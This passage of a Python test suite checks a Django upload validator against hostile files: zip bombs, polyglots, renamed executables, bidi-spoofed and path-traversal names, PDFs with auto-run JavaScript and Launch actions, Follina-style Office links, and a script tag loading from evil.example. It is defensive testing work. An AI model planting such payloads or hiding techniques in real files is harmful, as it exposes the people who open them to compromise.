        "polyglot png/zip": ("image.png", image_bytes("PNG") + _zip({"payload.html": HTML})),
        "zip bomb .docx (ratio)": ("bomb.docx", zip_bomb_ratio()),
        "zip bomb .docx (forged sizes)": ("bomb.docx", zip_bomb_lying()),
        "zip bomb .xlsx (too many parts)": ("many.xlsx", zip_many_entries()),
        "encrypted .docx": ("secret.docx", zip_encrypted()),
        "docx with macros": ("macro.docx", docx_with_macros()),
        "plain zip renamed .docx": ("archive.docx", _zip({"a.txt": b"hello"})),
        "odf with unknown mimetype": ("x.odt", odf_bytes("application/vnd.oasis.opendocument.graphics")),
        "png pixel bomb": ("huge.png", png_pixel_bomb()),
        "truncated png": ("broken.png", image_bytes("PNG")[:60]),
        "windows exe renamed .pdf": ("invoice.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 500),
        "elf program renamed .docx": ("tool.docx", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 500),
        "bidi-spoofed exe name": ("invoice\u202efdp.exe", b"MZ\x90\x00" + b"\x00" * 500),
        "double extension report.pdf.html": ("report.pdf.html", HTML),
        "double extension with real pdf": ("report.pdf.html", pdf),
        "docx renamed .pdf": ("report.pdf", docx_bytes()),
        "rtf renamed .txt": ("letter.txt", b"{\\rtf1\\ansi {\\object\\objemb hello}}"),
        "binary with nul bytes as .csv": ("data.csv", b"a,b\n\0\0\0\x01\x02"),
        "gif image": ("animation.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
        "javascript as .txt": ("app.txt", b"<script src=https://evil.example/x.js></script>"),
        "path traversal name with html": ("../../x.pdf", HTML),
        "nul in name with html": ("report.pdf\x00.html", HTML),
        **hostile_pdfs(),
        **hostile_office_files(),
        **hostile_images(),
    }


# Hostile names on good content: the name is neutralised (never a path), the file is kept.
HOSTILE_NAMES = {
    "../../x.pdf": "x.pdf",
    "..\\..\\windows\\x.pdf": "x.pdf",
    "report\x00.pdf": "report.pdf",
    "re\x07po\x1brt.pdf": "report.pdf",
    ".hidden.pdf": "hidden.pdf",
    "a" * 300 + ".pdf": "a" * (uploads.NAME_MAX_LENGTH - 4) + ".pdf",
    'what?<is>"this"|*.pdf': "what__is__this___.pdf",
}


def upload(name, data):
    return SimpleUploadedFile(name, data, content_type="application/pdf")  # the browser's word is ignored


# ---------------------------------------------------------------------------------------------
# Tests


@pytest.mark.parametrize("key", list(good_files()))
def test_good_files_of_every_allowed_type_are_accepted(settings, key):
    name, data, content_type = good_files()[key]
    checked = uploads.check_upload(upload(name, data))
    assert checked.content_type == content_type
    assert checked.original_name == name
    assert checked.size == len(checked.content)
    import hashlib

    assert checked.sha256 == hashlib.sha256(checked.content).hexdigest()
    if content_type.startswith("image/"):
        # Images are decoded and saved again; the result is still a valid image of the same size.
        assert Image.open(io.BytesIO(checked.content)).size == (40, 30)
    else:
        assert checked.content == data


def test_a_cut_off_image_is_refused_even_after_weasyprint_is_imported():
    # WeasyPrint turns on Pillow's LOAD_TRUNCATED_IMAGES for the whole process when imported.
    import weasyprint  # noqa: F401
    from PIL import ImageFile

    assert ImageFile.LOAD_TRUNCATED_IMAGES is True
    for name, data in (("a.png", image_bytes("PNG")), ("a.jpg", image_bytes("JPEG"))):
        with pytest.raises(ValidationError, match="cannot be opened"):
            uploads.check_upload(upload(name, data[: len(data) * 2 // 3]))
    assert ImageFile.LOAD_TRUNCATED_IMAGES is True


def test_images_lose_their_metadata():
    name, data, _ = good_files()["jpg"]
    assert Image.open(io.BytesIO(data)).getexif().get(0x8825)
    checked = uploads.check_upload(upload(name, data))
    assert not Image.open(io.BytesIO(checked.content)).getexif()


MALICIOUS = malicious_files(max_bytes=1 * MB)
BIDI_NAMED = bidi_named_files()


@pytest.mark.parametrize("key", list(BIDI_NAMED))
def test_a_name_with_direction_controls_is_refused(key):
    name, data = BIDI_NAMED[key]
    with pytest.raises(ValidationError, match="hidden characters that change the direction of text") as excinfo:
        uploads.check_upload(upload(name, data))
    assert excinfo.value.code == "name"


def test_a_spoofed_name_sent_through_the_page_arrives_plain(cast, client_for):
    from involve.engagement.models import Evidence

    from ..engagement.factories import make_decision

    decision = make_decision(cast.org_a)
    response = client_for(cast.a_engagement_lead).post(
        reverse("engagement:evidence_add_file_decision", args=[decision.pk]),
        {
            "title": "Spoofed name",
            "dated-day": "1",
            "dated-month": "2",
            "dated-year": "2025",
            "file": SimpleUploadedFile("invoice\u202efdp.pdf", minimal_pdf()),
        },
    )
    assert response.status_code == 302
    # Django's parser has already dropped the override: what people see is the name as it really is.
    assert Evidence.objects.get(title="Spoofed name").original_name == "invoicefdp.pdf"


@pytest.mark.parametrize("key", list(MALICIOUS))
def test_every_malicious_file_is_rejected_with_a_plain_message(key):
    name, data = MALICIOUS[key]
    with pytest.raises(ValidationError) as excinfo:
        uploads.check_upload(upload(name, data), max_bytes=1 * MB)
    message = excinfo.value.messages[0]
    assert message and "<" not in message and "Traceback" not in message
    assert len(message) < 300


@pytest.mark.parametrize(
    ("key", "expected"),
    [
        (
            "html renamed .pdf",
            "The file is an HTML page, not a PDF. Upload a PDF, Word, Excel, PowerPoint, "
            "OpenDocument, CSV, plain text, PNG or JPEG file",
        ),
        ("html renamed .csv", "The file is an HTML page, not a CSV file."),
        ("html before %PDF (libmagic says PDF)", "The file is an HTML page, not a PDF."),
        ("svg with script", "The file is an SVG image. Upload a PDF"),
        ("oversized pdf", "The selected file must be smaller than 1 MB"),
        ("empty file", "The selected file is empty"),
        ("zip bomb .docx (ratio)", "zip bomb"),
        ("zip bomb .docx (forged sizes)", "The file looks like a Word document but cannot be opened"),
        ("zip bomb .xlsx (too many parts)", "zip bomb"),
        ("polyglot jpeg/html", "web page code hidden inside it"),
        ("polyglot pdf/zip", "ZIP archive hidden inside it"),
        ("docx with macros", "macros"),
        ("encrypted .docx", "password"),
        ("windows exe renamed .pdf", "The file is a Windows program, not a PDF."),
        ("double extension with real pdf", "The file is a PDF but its name ends .html. Rename it to end .pdf"),
        ("docx renamed .pdf", "The file is a Word document but its name ends .pdf"),
        ("png pixel bomb", "million pixels"),
    ],
)
def test_messages_say_what_is_wrong(key, expected):
    name, data = MALICIOUS[key]
    with pytest.raises(ValidationError) as excinfo:
        uploads.check_upload(upload(name, data), max_bytes=1 * MB)
    assert expected in excinfo.value.messages[0]


def test_size_is_checked_before_reading_when_the_upload_declares_it():
    class Declared(io.BytesIO):
        size = 10 * MB
        name = "big.pdf"

        def read(self, *args):
            raise AssertionError("read although the declared size was already too big")

        chunks = read

    with pytest.raises(ValidationError, match="smaller than"):
        uploads.check_upload(Declared(), max_bytes=1 * MB)


def test_size_is_checked_while_reading_when_the_upload_understates_it():
    lying = SimpleUploadedFile("big.pdf", minimal_pdf() + b"%" * (2 * MB))
    lying.size = 10
    with pytest.raises(ValidationError, match="smaller than"):
        uploads.check_upload(lying, max_bytes=1 * MB)


def test_the_limit_comes_from_settings(settings):
    settings.UPLOAD_MAX_BYTES = 1000
    with pytest.raises(ValidationError, match="smaller than 0 KB|smaller than 1 KB|smaller than"):
        uploads.check_upload(upload("a.pdf", minimal_pdf() + b"%" * 2000))


def test_only_the_kinds_asked_for_are_accepted():
    with pytest.raises(ValidationError, match="The file is a PDF. Upload a CSV or Excel file"):
        uploads.check_upload(upload("a.pdf", minimal_pdf()), kinds=(uploads.CSV, uploads.XLSX))
    assert uploads.check_upload(upload("a.xlsx", xlsx_bytes()), kinds=(uploads.CSV, uploads.XLSX))


@pytest.mark.parametrize(("name", "expected"), list(HOSTILE_NAMES.items()))
def test_hostile_names_are_neutralised_and_never_used_on_disk(settings, name, expected):
    # A plain file object: Django's own upload classes would already have cut the folders off.
    file = io.BytesIO(minimal_pdf())
    file.name = name
    checked = uploads.check_upload(file)
    assert checked.original_name == expected
    stored = uploads.store(checked, folder="evidence/1")
    assert stored.startswith("evidence/1/")
    leaf = stored.rsplit("/", 1)[1]
    assert len(leaf) == 32 and all(c in "0123456789abcdef" for c in leaf)
    assert expected not in stored


def test_store_refuses_an_unsafe_folder():
    checked = uploads.check_upload(upload("a.pdf", minimal_pdf()))
    for folder in ("../x", "/etc", "evidence/../../x", "Evidence", "evidence/"):
        with pytest.raises(ValueError):
            uploads.store(checked, folder=folder)


def test_csv_and_text_follow_the_name():
    data = b"a,b\n1,2\n"
    assert uploads.check_upload(upload("x.csv", data)).content_type == "text/csv"
    assert uploads.check_upload(upload("x.txt", data)).content_type == "text/plain"


def test_upload_field_gives_a_checked_file_or_the_message():
    from django import forms

    class Form(forms.Form):
        file = uploads.UploadField(max_bytes=1 * MB)

    good = Form(files={"file": upload("a.pdf", minimal_pdf())})
    assert good.is_valid(), good.errors
    assert isinstance(good.cleaned_data["file"], uploads.CheckedFile)
    missing = Form(files={})
    assert not missing.is_valid() and missing.errors["file"] == ["Select a file"]
    bad = Form(files={"file": upload("a.pdf", HTML)})
    assert not bad.is_valid() and bad.errors["file"][0].startswith("The file is an HTML page, not a PDF")


# ---------------------------------------------------------------------------------------------
# The name sanitiser, for any text at all


@given(st.text())
def test_sanitised_names_are_safe_for_any_input(name):
    clean = uploads.sanitise_filename(name)
    assert clean
    assert "/" not in clean and "\\" not in clean and "\0" not in clean
    assert not any(unicodedata.category(c)[0] == "C" for c in clean)
    assert not clean.startswith(".") and not clean.endswith((".", " "))
    assert clean not in (".", "..")
    assert len(clean) <= uploads.NAME_MAX_LENGTH
    assert uploads.sanitise_filename(clean) == clean


@given(st.lists(st.sampled_from(["..", ".", "/", "\\", "\0", "\n", "a", "pdf", "\u202e", " "]), max_size=30))
def test_sanitised_names_from_path_pieces(pieces):
    clean = uploads.sanitise_filename("".join(pieces))
    assert ".." not in clean.split("/") and "/" not in clean and "\\" not in clean


@given(st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=40))
def test_ordinary_names_keep_their_extension(stem):
    clean = uploads.sanitise_filename(f"{stem}.pdf")
    assert clean.endswith(".pdf") or clean == "pdf"


# ---------------------------------------------------------------------------------------------
# Active content: what must still be accepted, and proof the hostile fixtures are real


def libreoffice_style_pdf() -> bytes:
    """As LibreOffice writes a PDF: stream lengths in separate objects, and an OpenAction that is only
    a destination (open at page 1), which runs nothing."""
    stream = b"BT /F1 12 Tf 20 100 Td (Minutes) Tj ET"
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /XYZ null null 0] /Lang (en-GB) >>",
            PAGES[0],
            PAGES[1].replace(b" >>", b" /Contents 4 0 R >>"),
            b"<< /Length 5 0 R >>\nstream\n" + stream + b"\nendstream",
            str(len(stream)).encode(),
        ]
    )


def pdf_with_colour_profile() -> bytes:
    """A PDF with an ICC colour profile: a compressed binary stream with /N, like an object stream's."""
    profile = bytearray(os.urandom(3000))
    profile[36:40] = b"acsp"
    profile[100:104] = b"/JS "  # binary that happens to look like a name must not count
    data = zlib.compress(bytes(profile))
    return pdf_with_catalog(
        b"/OutputIntents [<< /Type /OutputIntent /S /GTS_PDFA1 /DestOutputProfile 4 0 R >>]",
        b"<< /N 3 /Filter /FlateDecode /Length " + str(len(data)).encode() + b" >>\nstream\n" + data + b"\nendstream",
    )


def docx_with_hyperlink_and_local_template() -> bytes:
    from docx.opc.constants import RELATIONSHIP_TYPE

    document = docx.Document()
    document.add_paragraph("See the report")
    document.part.relate_to("https://www.example.nhs.uk/report", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    document.part.relate_to("mailto:engagement@example.nhs.uk", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    document.part.relate_to("file:///S:/Governance/Board.docx", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    buffer = io.BytesIO()
    document.save(buffer)
    # The template Word records a document was made from, on the author's own drive.
    return rezip(
        buffer.getvalue(),
        {
            "word/_rels/settings.xml.rels": RELS
            + f'<Relationship Id="rId1" Type="{OFFICE_REL}attachedTemplate" Target="file:///C:/Users/alex/AppData/'
            'Roaming/Microsoft/Templates/Normal.dotm" TargetMode="External"/></Relationships>'.encode()
        },
    )


def accepted_active_lookalikes() -> dict[str, tuple[str, bytes]]:
    """Ordinary files that have something in common with the hostile ones, and must be kept."""
    return {
        "weasyprint pdf with links and an object stream": ("report.pdf", weasyprint_pdf()),
        "libreoffice-style pdf": ("minutes.pdf", libreoffice_style_pdf()),
        "pdf with a colour profile": ("poster.pdf", pdf_with_colour_profile()),
        "latex-style pdf opening at page 1 through a GoTo action": (
            "paper.pdf",
            pdf_with_catalog(b"/OpenAction 4 0 R", b"<< /D [3 0 R /Fit] /S /GoTo >>"),
        ),
        "docx with links and a template on the author's drive": (
            "letter.docx",
            docx_with_hyperlink_and_local_template(),
        ),
        "docx with a chart's workbook": ("report.docx", embedded_package(xlsx_bytes())),
        "docx with a page-number field and the word DDE in its text": (
            "report.docx",
            docx_with_body(
                b'<w:p><w:r><w:t>The DDE team met twice.</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                b'<w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            ),
        ),
        "xlsx with formulas, one with a | inside quotes": ("figures.xlsx", xlsx_with_formula('=A1&" | per ward"')),
        "odt with an empty office:scripts and a web link": (
            "minutes.odt",
            odf_with(b'<text:p><text:a xlink:href="https://www.example.nhs.uk/">Report</text:a></text:p>'),
        ),
    }


@pytest.mark.parametrize("key", list(accepted_active_lookalikes()))
def test_ordinary_files_like_the_hostile_ones_are_kept(key):
    name, data = accepted_active_lookalikes()[key]
    checked = uploads.check_upload(upload(name, data))
    assert checked.original_name == name


def test_our_own_cover_sheet_pdf_and_docx_are_accepted(cast):
    from involve.engagement import coversheet

    from ..engagement.factories import make_decision

    sheet = coversheet.build_cover_sheet(make_decision(cast.org_a))
    assert uploads.check_upload(upload("cover.pdf", coversheet.render_pdf(sheet))).kind is uploads.PDF
    assert uploads.check_upload(upload("cover.docx", coversheet.render_docx(sheet))).kind is uploads.DOCX


def _pdfinfo_js(data: bytes) -> str:
    if not shutil.which("pdfinfo"):
        pytest.fail("pdfinfo is missing: apt-get install -y poppler-utils")
    with tempfile.NamedTemporaryFile(suffix=".pdf") as handle:
        handle.write(data)
        handle.flush()
        return subprocess.run(["pdfinfo", "-js", handle.name], capture_output=True, text=True, check=True).stdout


@pytest.mark.parametrize(
    "key",
    [
        "pdf page AA",
        "pdf name escapes /J#61vaScript",
        "pdf JavaScript in a compressed object stream",
        "pdf object stream without /Type",
        "pdf object stream in ASCIIHex (not read)",
        "pdf object hidden in a string",
        "pdf object hidden in a comment",
        "pdf object hidden in another stream's data",
    ],
)
def test_the_hidden_scripts_are_real_a_pdf_reader_finds_them(key):
    # Poppler finds the script in each fixture, so each is a hiding place a reader honours.
    assert "app.alert" in _pdfinfo_js(MALICIOUS[key][1])


@pytest.mark.parametrize(
    ("key", "expected"),
    [
        ("pdf OpenAction JavaScript", "actions that run by themselves"),
        ("pdf JavaScript name tree", "The PDF contains scripts"),
        ("pdf Launch", "starts other programs"),
        ("pdf EmbeddedFile", "files hidden inside it"),
        ("pdf SubmitForm", "sends information elsewhere"),
        ("pdf name escapes /J#61vaScript", "The PDF contains scripts"),
        ("pdf JavaScript in a compressed object stream", "actions that run by themselves"),
        ("pdf object stream without /Type", "actions that run by themselves"),
        ("pdf object stream in ASCIIHex (not read)", "cannot check what is inside this PDF"),
        ("pdf object hidden in a string", "cannot check what is inside this PDF"),
        ("pdf object hidden in another stream's data", "cannot check what is inside this PDF"),
        ("pdf encrypted", "protected (encrypted)"),
        ("odt with Basic macros", "macros"),
        ("ods with an event listener under another prefix", "macros"),
        ("odt with an escaped macro link", "macros"),
        ("odt encrypted in its manifest", "password"),
        ("odt with an XML entity bomb", "cannot be opened"),
        ("docx with a remote attachedTemplate", "template stored on another computer or website"),
        ("docx with an external relationship written with entities", "stored elsewhere"),
        ("docx with an external OLE object (Follina)", "embedded object"),
        ("docx hyperlink to ms-msdt:", "a link that starts a program (ms-msdt:)"),
        ("docx with ActiveX", "ActiveX"),
        ("xlsx with links to other workbooks", "other workbooks"),
        ("docx with a zip bomb inside its embeddings", "zip bomb"),
        ("docx with macros inside its embedded workbook", "macros"),
        ("docx with a package two levels deep", "packed inside it"),
        ("png claiming 100,000 x 100,000 pixels", "million pixels"),
        ("png claiming 8,000 x 8,000 pixels (under Pillow's own limit)", "8,000 × 8,000 pixels"),
        ("jpeg claiming 65,535 x 65,535 pixels", "million pixels"),
    ],
)
def test_active_content_messages_say_what_is_wrong(key, expected):
    name, data = MALICIOUS[key]
    with pytest.raises(ValidationError) as excinfo:
        uploads.check_upload(upload(name, data), max_bytes=1 * MB)
    assert expected in excinfo.value.messages[0]


def test_a_pdf_object_stream_is_inflated_only_within_the_budget(monkeypatch):
    data = build_pdf([], compressed={1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: PAGES[0], 3: PAGES[1]})
    assert uploads.check_upload(upload("a.pdf", data))
    monkeypatch.setattr(uploads, "PDF_MAX_INFLATED_BYTES", 50)
    with pytest.raises(ValidationError, match="cannot check what is inside this PDF"):
        uploads.check_upload(upload("a.pdf", data))


# ---------------------------------------------------------------------------------------------
# Images: refused by their pixel count before any pixel is decoded


@pytest.mark.parametrize("pillow_limit", [Image.MAX_IMAGE_PIXELS, None])
@pytest.mark.parametrize(
    "key",
    [
        "png claiming 100,000 x 100,000 pixels",
        "png claiming 8,000 x 8,000 pixels (under Pillow's own limit)",
        "jpeg claiming 65,535 x 65,535 pixels",
    ],
)
def test_a_pixel_bomb_is_refused_without_decoding_it(monkeypatch, key, pillow_limit):
    # Pillow's own limit may be off (None) in the process; ours does not depend on it.
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", pillow_limit)
    decoded = []
    original = ImageFile.ImageFile.load

    def load(self):
        decoded.append(self.size)
        return original(self)

    monkeypatch.setattr(ImageFile.ImageFile, "load", load)
    name, data = MALICIOUS[key]
    assert len(data) < 2000
    with pytest.raises(ValidationError, match="pixels"):
        uploads.check_upload(upload(name, data))
    assert decoded == []
    # The spy does see a real decode, so an empty list means none happened.
    uploads.check_upload(upload("a.png", image_bytes("PNG")))
    assert decoded and set(decoded) == {(40, 30)}


# ---------------------------------------------------------------------------------------------
# Direction controls in the links people enter


BIDI_LINKS = [
    "https://www.example.nhs.uk/report\u202efdp.exe",
    "https://www.example.nhs.uk/\u2067report\u2069",
    "https://www.example.nhs.uk/report%E2%80%AEfdp.exe",
    "https://www.exam\u200fple.nhs.uk/",
]


@pytest.mark.parametrize("url", BIDI_LINKS)
def test_links_with_direction_controls_are_refused_in_every_link_field(cast, url):
    from involve.engagement.forms import PartnerForm, TermsForm
    from involve.engagement.views.evidence import EvidenceLinkForm

    from ..engagement.factories import make_partner

    message = "The web address contains hidden characters that change the direction of text"
    evidence = EvidenceLinkForm(
        data={"title": "Page", "url": url, "dated-day": "1", "dated-month": "2", "dated-year": "2025"}
    )
    assert not evidence.is_valid() and message in evidence.errors["url"][0]
    partner = PartnerForm(organisation=cast.org_a, data={"name": "Healthwatch", "website": url})
    assert not partner.is_valid() and message in partner.errors["website"][0]
    terms = TermsForm(organisation=cast.org_a, partner=make_partner(cast.org_a), data={"document_url": url})
    assert not terms.is_valid() and message in terms.errors["document_url"][0]


def test_an_ordinary_link_is_not_refused():
    from involve.core.forms import no_bidi_controls

    no_bidi_controls("https://www.example.nhs.uk/report?id=%D8%B9%D8%B1%D8%A8%D9%8A")  # Arabic, %-encoded
    no_bidi_controls("")


def test_adding_a_spoofed_link_through_the_page_stores_nothing(cast, client_for):
    from involve.engagement.models import Evidence

    from ..engagement.factories import make_decision

    decision = make_decision(cast.org_a)
    response = client_for(cast.a_engagement_lead).post(
        reverse("engagement:evidence_add_link_decision", args=[decision.pk]),
        {"title": "Spoof", "url": BIDI_LINKS[0], "dated-day": "1", "dated-month": "2", "dated-year": "2025"},
    )
    assert response.status_code == 400
    assert "hidden characters that change the direction of text" in response.content.decode()
    assert not Evidence.objects.filter(title="Spoof").exists()


# ---------------------------------------------------------------------------------------------
# The scorecard: every hostile fixture, through check_upload


def test_scorecard_hostile_uploads(scorecard):
    accepted = []
    for key, (name, data) in {**MALICIOUS, **BIDI_NAMED}.items():
        try:
            uploads.check_upload(upload(name, data), max_bytes=1 * MB)
        except ValidationError:
            continue
        accepted.append(key)
    # Hostile names on good content are kept, but only once neutralised.
    unsafe_names = []
    for name, expected in HOSTILE_NAMES.items():
        file = io.BytesIO(minimal_pdf())
        file.name = name
        shown = uploads.check_upload(file).original_name
        if shown != expected or any(c in shown for c in "/\\\0") or shown.startswith("."):
            unsafe_names.append(name)
    scorecard.add(
        scorecard.HOSTILE_UPLOADS,
        found=len(accepted) + len(unsafe_names),
        checked=len(MALICIOUS) + len(BIDI_NAMED) + len(HOSTILE_NAMES),
    )
    assert accepted == [] and unsafe_names == []
